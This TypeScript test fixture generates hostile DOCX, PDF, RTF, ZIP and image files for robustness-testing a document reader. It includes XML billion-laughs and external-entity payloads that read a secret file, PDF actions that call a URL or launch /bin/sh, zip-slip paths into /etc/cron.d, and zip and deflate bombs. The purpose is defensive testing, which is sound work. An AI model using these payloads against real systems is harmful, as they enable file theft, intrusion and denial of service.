import { deflateSync } from 'node:zlib'
import { makeDocx, makePdf, makeZip } from '../cli/made-files.ts'
import { isThorough } from '../fuzz/runs.ts'
import { docxEntries, p, zip } from '../readers/docx-files.ts'

/** Names a file or archive member and what is in it. */
export type HostileFiles = Readonly<Record<string, Uint8Array | string>>

/** Files made to hang, burst, escape or phone home. `url`: where something listens that must never be asked. */
export async function makeHostileFiles(url: string, secret: string): Promise<HostileFiles> {
  return {
    ...(await hostileWord(url, secret)),
    ...hostilePdf(url),
    ...(await hostileArchives()),
    ...hostilePictures(),
    'nothing.pdf': '',
    'zeros.docx': new Uint8Array(100_000),
    'loop.rtf': `{\\rtf1${'{'.repeat(200_000)}`,
    'skip.rtf': '{\\rtf1{\\bin2147483647 x}\\u-1\\uc99999999 }',
    'chain.doc': compoundLoop(),
    'long-line.rtf': `{\\rtf1 ${'a'.repeat(3_000_000)}}`,
    'tên\u202efdp.pdf': '%PDF-1.4',
    'a b\n\u001b[2Jc.pdf': '%PDF-1.4',
  }
}

async function hostileWord(url: string, secret: string): Promise<HostileFiles> {
  const withDocument = (xml: string, parts: Readonly<Record<string, string>> = {}) =>
    zip(new Map([...docxEntries({ body: '' }), ['word/document.xml', xml], ...Object.entries(parts)]))
  const open = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
  const close = '</w:body></w:document>'
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const template = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/><Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/seal.png" TargetMode="External"/></Relationships>`
  return {
    'laughs.docx': await withDocument(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${open}${p('&l12;')}${close}`),
    'entity.docx': await withDocument(
      `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${secret}">]>${open}${p('Báo cáo &e; hết')}${close}`,
    ),
    'remote-entity.docx': await withDocument(
      `<!DOCTYPE x SYSTEM "${url}/x.dtd" [<!ENTITY % e SYSTEM "${url}/y.dtd"> %e;]>${open}${p('Báo cáo')}${close}`,
    ),
    'template.docx': await withDocument(`${open}${p('Báo cáo')}${close}`, {
      'word/_rels/settings.xml.rels': template,
      'word/_rels/document.xml.rels': template,
    }),
    'macro.docm': await withDocument(`${open}${p('Báo cáo')}${close}`, { 'word/vbaProject.bin': 'Auto_Open' }),
    'deep.docx': await withDocument(`${open}${'<w:tbl><w:tr><w:tc>'.repeat(20_000)}`),
    'deep-closed.docx': await withDocument(
      `${open}${'<w:tbl><w:tr><w:tc>'.repeat(5_000)}${'</w:tc></w:tr></w:tbl>'.repeat(5_000)}${close}`,
    ),
    'attributes.docx': await withDocument(
      `${open}<w:p ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>${close}`,
    ),
    'wide.docx': await withDocument(
      `${open}<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>${p('x')}</w:tc></w:tr></w:tbl>${close}`,
    ),
    'burst.docx': await withDocument(`${open}${p(' '.repeat(300_000_000))}${close}`),
    'style-loop.docx': await zip(
      docxEntries({
        body: p('x', '<w:pStyle w:val="A"/>'),
        styles:
          '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
      }),
    ),
    // Needs more memory than a run allows; some seconds for each gigabyte.
    ...(isThorough && { 'large.docx': await zip(docxEntries({ body: p('Báo cáo '.repeat(10)).repeat(500_000) })) }),
    'part-outside.docx': await zip(
      new Map([...docxEntries({ body: p('x') }), ['../../../../tmp/boctach-escaped.xml', '<x/>']]),
    ),
  }
}

function hostilePdf(url: string): HostileFiles {
  const pdf = (...objects: readonly string[]) => {
    const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('')
    return `%PDF-1.7\n${body}trailer\n<</Root 1 0 R/Size ${objects.length + 1}>>\n`
  }
  const catalog = '<</Type/Catalog/Pages 2 0 R>>'
  const stream = (content: Uint8Array | string, extra = '') =>
    `<</Length ${content.length}${extra}>>\nstream\n${Buffer.from(content).toString('latin1')}\nendstream`
  const burst = deflateSync(Buffer.alloc(isThorough ? 50_000_000 : 4_000_000, '1 0 0 1 0 0 cm '))
  return {
    'page-loop.pdf': pdf(catalog, '<</Type/Pages/Count 3/Kids[2 0 R 2 0 R]>>'),
    'many-pages.pdf': pdf(catalog, '<</Type/Pages/Count 2000000000/Kids[3 0 R]>>', '<</Type/Page/Parent 2 0 R>>'),
    'form-loop.pdf': pdf(
      catalog,
      '<</Type/Pages/Count 1/Kids[3 0 R]>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>',
      stream('/F Do'),
      stream('/F Do /F Do', '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>'),
    ),
    'xref-loop.pdf': '%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Prev 9/Size 1>>\nstartxref\n9\n%%EOF',
    'phone-home.pdf': pdf(
      `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${url}/opened)>>/AA<</WC<</S/JavaScript/JS(app.launchURL("${url}/js"))>>>>>>`,
      '<</Type/Pages/Count 1/Kids[3 0 R]>>',
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/Launch/F(/bin/sh)>>>>/Contents 4 0 R>>`,
      `<</F<</FS/URL/F(${url}/stream)>>/Length 0>>\nstream\n\nendstream`,
    ),
    'huge-page.pdf': pdf(
      catalog,
      '<</Type/Pages/Count 1/Kids[3 0 R]>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]/Rotate 37/UserUnit 1e9>>',
    ),
    'deep-array.pdf': pdf(`<</Type/Catalog/Pages ${'['.repeat(100_000)}>>`),
    'xref-far.pdf': `${pdf(catalog, '<</Type/Pages/Count 0/Kids[]>>')}startxref\n99999999999999\n%%EOF`,
    'burst.pdf': Buffer.from(
      pdf(
        catalog,
        '<</Type/Pages/Count 1/Kids[3 0 R]>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>',
        stream(burst, '/Filter/FlateDecode'),
      ),
      'latin1',
    ),
  }
}

async function hostileArchives(): Promise<HostileFiles> {
  const paths = await makeZip({
    '../../../../tmp/boctach-escaped.docx': await makeDocx('tricks'),
    '/etc/cron.d/boctach-escaped.docx': await makeDocx('absolute'),
    'C:\\boctach-escaped.docx': await makeDocx('drive'),
    'a\u0000b.docx': await makeDocx('nul'),
    ['x'.repeat(5000) + '.docx']: await makeDocx('long'),
  })
  let nested = await makeZip({ 'a.docx': await makeDocx('nested') })
  for (let depth = 0; depth < 6; depth++) nested = await makeZip({ 'inner.zip': nested })
  const zeros = new Uint8Array(40_000_000)
  const whole = Buffer.from(await makeZip({ 'a.docx': await makeDocx('torn') }))
  return {
    'paths.zip': paths,
    'nested.zip': nested,
    'bomb.zip': await makeZip({ 'a.docx': zeros, 'b.pdf': zeros, 'c.rtf': zeros }),
    'torn.zip': whole.subarray(0, whole.length - 30),
    'not-what-it-says.docx': await makePdf({ mark: 'pdf inside' }),
  }
}

function hostilePictures(): HostileFiles {
  const size = Buffer.alloc(8)
  size.writeUInt32BE(0x7fffffff, 0)
  size.writeUInt32BE(0x7fffffff, 4)
  const head = Buffer.concat([Buffer.from('IHDR'), size, Buffer.from([8, 2, 0, 0, 0])])
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d', 'hex'), head, Buffer.alloc(4)])
  const tiff = Buffer.from('49492a0008000000ffff', 'hex')
  return { 'huge.png': png, 'endless.tif': Buffer.concat([tiff, Buffer.alloc(400, 8)]) }
}

/** An OLE file whose sector chains lead into themselves. */
function compoundLoop(): Uint8Array {
  const file = Buffer.alloc(512 * 4)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  file.writeUInt16LE(0x3e, 24)
  file.writeUInt16LE(3, 26)
  file.writeUInt16LE(0xfffe, 28)
  file.writeUInt16LE(9, 30)
  file.writeUInt16LE(6, 32)
  file.writeUInt32LE(1, 44)
  file.writeUInt32LE(0, 48)
  file.writeUInt32LE(4096, 56)
  file.writeUInt32LE(0, 60)
  file.writeUInt32LE(0xffffffff, 64)
  file.writeUInt32LE(0, 68)
  file.writeUInt32LE(0xffffffff, 72)
  for (let at = 76; at < 512; at += 4) file.writeUInt32LE(0, at)
  // Every sector is followed by itself.
  for (let sector = 0; sector < 128; sector++) file.writeUInt32LE(sector, 512 + 4 * sector)
  return file
}

/** A file with bytes changed, cut out, doubled or put in, as transport and bad disks do it. */
export function mutate(bytes: Uint8Array, random: () => number): Uint8Array {
  const out = Buffer.from(bytes)
  const at = () => Math.floor(random() * out.length)
  const times = 1 + Math.floor(random() * 20)
  const kind = random()
  if (kind < 0.5) {
    for (let n = 0; n < times; n++) out[at()] = Math.floor(random() * 256)
    return out
  }
  const [a, b] = [at(), at()].sort((x, y) => x - y) as [number, number]
  if (kind < 0.65) return out.subarray(0, a)
  if (kind < 0.8) return Buffer.concat([out.subarray(0, a), out.subarray(b)])
  if (kind < 0.9) return Buffer.concat([out.subarray(0, b), out.subarray(a)])
  return Buffer.concat([out.subarray(0, a), Buffer.alloc(times * 100, Math.floor(random() * 256)), out.subarray(a)])
}
